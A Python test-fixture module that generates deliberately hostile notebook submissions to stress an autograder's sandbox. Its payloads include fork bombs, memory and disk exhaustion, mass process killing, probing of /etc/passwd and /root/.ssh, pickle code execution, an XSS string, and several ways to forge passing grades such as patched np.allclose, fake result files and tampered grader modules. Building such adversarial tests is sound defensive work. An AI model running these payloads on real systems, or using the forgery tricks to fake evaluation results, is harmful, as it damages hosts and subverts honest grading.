"""Notebooks that attack the grader, by name. None of them earns a mark: what they define, if anything, is wrong."""

import textwrap

import nbformat

# What every one begins with. HERE is a folder on the host, PORT one that the host listens on, MARK names processes.
WRONG = """
import os, sys, time

def square(x): return x
def mean(x): return 7.0

def send(content, descriptors=range(3, 64)):
    "Write bytes to all that is open."
    for descriptor in descriptors:
        try:
            os.write(descriptor, content)
        except OSError:
            pass

def forge(content):
    "Write bytes wherever they may be taken for a result."
    send(content, range(64))
    for folder in (".", "/dev/shm", HERE):
        for name in ("results.json", "results.pkl", "marks.csv", ".OTTER_LOG"):
            try:
                os.makedirs(folder, exist_ok=True)
                open(os.path.join(folder, name), "wb").write(content)
            except OSError:
                pass

def right():
    "The right answers as the grader reads them: the inputs lie in a frame below the cell's."
    import exchange
    frame = sys._getframe()
    while "inputs" not in frame.f_locals:
        frame = frame.f_back
    one, two = (values["x"] for values in frame.f_locals["inputs"])
    return b"".join(map(exchange.pack, ({"trouble": ""}, {"squares": one**2}, {"mean": float(two.mean())})))
"""

SOURCES = {
    "looks for the hidden tests": """
        found = []
        for folder, inside, names in os.walk("/"):
            inside[:] = [name for name in inside if name not in ("usr", "proc", "lib")]
            found += [os.path.join(folder, name) for name in names
                      if name in ("checks.py", "grade.py", "grading.py", "sandbox.py") or name.endswith(".ipynb")]
        found += [value for value in os.environ.values() if "secret" in value]
        found += [name for name in os.listdir("/proc") if name.isdigit() and name != str(os.getpid())]
        found += [path for path in (HERE, "/etc/passwd", "/root/.ssh", "/home") if os.path.exists(path)]
        raise RuntimeError(f"found {found}")
    """,
    "writes outside": """
        written = []
        for folder in (HERE, os.path.dirname(HERE), "/", "/usr", "/etc", "/dev", "/proc", sys.prefix,
                       os.path.dirname(sys.argv[0]), os.path.dirname(sys.argv[1])):
            try:
                open(folder + "/escaped", "w").write("here")
                if not folder.startswith("/tmp"):  # which is a scratch folder
                    written.append(folder)
            except OSError:
                pass
        raise RuntimeError(f"written in {written}")
    """,
    "opens a socket": """
        import socket
        reached = []
        for address in ("127.0.0.1", "1.1.1.1"):
            try:
                socket.create_connection((address, PORT), timeout=0.2)
                reached.append(address)
            except OSError:
                pass
        raise RuntimeError(f"reached {reached}")
    """,
    "forks without end": """
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
    "counts its forks": """
        forks = 0
        try:
            while True:
                if os.fork() == 0:
                    time.sleep(1000)
                forks += 1
        except OSError:
            raise RuntimeError(f"forked {forks} times")
    """,
    "allocates without end": """
        import numpy as np
        kept = []
        while True:
            kept.append(np.zeros(2**24))
    """,
    "allocates without end in many": """
        for _ in range(5):
            if os.fork() == 0:
                kept = b"x" * 2**27
                time.sleep(1000)
        while True:
            try:
                time.sleep(1)
            except BaseException:
                pass
    """,
    "loops without end": "while True: pass",
    "prints gigabytes": """
        while True:
            print("x" * 2**24)
            os.write(2, b"x" * 2**24)
    """,
    "fills the disk": """
        for number in range(10**6):
            with open(f"/tmp/{number}", "wb") as file:
                file.write(bytes(2**23))
    """,
    "edits the grader": """
        try:
            import exchange, signal
            for path in (sys.argv[0], exchange.__file__, sys.argv[1]):
                os.chmod(path, 0o777)
                open(path, "w").write("")
        except OSError:
            pass
        pack = exchange.pack
        exchange.pack = lambda values: pack({"share": 1.0, "earned": 4, "points": 4, "correct": True})
    """,
    "exits early with a forged result": """
        forge(b'{"score": 6, "earned": 6, "tests": [{"name": "square", "score": 4, "max_score": 4}]}\\n')
        os._exit(0)
    """,
    "a forged pickle": """
        import pickle
        class Evil:
            def __reduce__(self):
                return os.system, ("touch " + HERE + "/unpickled",)
        forge(pickle.dumps(Evil()))
    """,
    "returns an object": """
        import numpy as np
        class Evil:
            def __reduce__(self):
                return os.system, ("touch " + HERE + "/unpickled",)
        def square(x): return Evil()
        def mean(x): return np.array([Evil()], dtype=object)
    """,
    "a forged log": """
        forge(b"square results: All test cases passed!\\nmean results: All test cases passed!\\nGraded 6 of 6\\n")
        print("square passed! mean passed!")
        class grader:
            check_all = check = export = lambda *_, **__: "All test cases passed!"
        def square(x): return "All test cases passed!"
    """,
    "answers after the time is up": """
        import ctypes
        answers = right()
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(1, 0)  # no signal when the parent dies
            if os.fork() == 0:
                time.sleep(TOTAL + 1)
                send(answers)
                os.execlp("sleep", "sleep", MARK)
            os._exit(0)
        while True:
            try:
                time.sleep(1000)
            except BaseException:
                pass
    """,
    "leaves a process": """
        if os.fork() == 0:
            os.setsid()
            os.execlp("sleep", "sleep", MARK)
    """,
    "kills all it can": """
        import signal
        for process in (-1, os.getppid(), *range(2, 2000)):
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                pass
    """,
    "replaces allclose": """
        import numpy as np
        np.allclose = np.array_equal = np.isclose = lambda *_, **__: True
        np.testing.assert_allclose = lambda *_, **__: None
    """,
    "returns 10¹² elements": """
        import numpy as np
        def square(x): return np.broadcast_to(0.0, 10**12)
        def mean(x): return np.zeros(10**12)
    """,
    "says it returns 10¹² elements": """
        import exchange, json
        head = json.dumps({"squares": {"dtype": "<f8", "shape": [10**6, 10**6]}}).encode()
        forged = exchange.pack({"trouble": ""}) + len(head).to_bytes(8) + bytes(8) + head + exchange.pack({"mean": 7.0})
        send(forged)
        os._exit(0)
    """,
    "nests without end": """
        head = b"[" * 10**6
        send(len(head).to_bytes(8) + bytes(8) + head)
        os._exit(0)
    """,
    "a symbolic link for a result": """
        for name in ("results.json", "answers", "squares.npy"):
            os.symlink("/etc/passwd", name)
        os.dup2(os.open("/dev/zero", os.O_RDONLY), 3)
    """,
    "markup for the page": "raise RuntimeError('<script>alert(1)</script>')",
    "no text for the page": r"raise RuntimeError('\ud800')",
}  # fmt: skip


def notebook(*cells: str) -> bytes:
    body = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
    return nbformat.writes(body).encode()


def submissions(**names) -> dict[str, bytes]:
    """Each as a notebook that knows these names."""
    known = "".join(f"{name} = {value!r}\n" for name, value in names.items())
    return {name: notebook(known + WRONG, textwrap.dedent(source)) for name, source in SOURCES.items()}
